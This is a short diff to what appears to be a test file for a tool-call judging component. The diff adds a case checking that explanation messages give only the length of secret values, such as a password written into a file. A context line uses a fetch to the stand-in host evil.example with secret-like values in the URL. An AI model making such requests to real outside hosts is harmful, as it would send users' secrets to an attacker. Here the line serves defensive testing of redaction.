@@ -59,6 +59,7 @@ test('a reason says whom and where, and of what may be secret only how long it i
     ['run', { command }, /command of 20 characters/],
     ['fetch', { url: 'https://SECRETUSER@evil.example/SECRETPATH?k=SECRETQUERY' }, /url "https:\/\/evil\.example"/],
     ['do_it', { thing: [{ whatever: `now ${password} then` }] }, /of 32 characters/],
+    ['edit', { file_path: '/a/b.ts', new_string: password }, /file_path "\/a\/b\.ts".*new_string of 23 characters/],
   ];
   for (const [name, input, wanted] of asked) {
     const { path } = flow.judge(call(name, input));
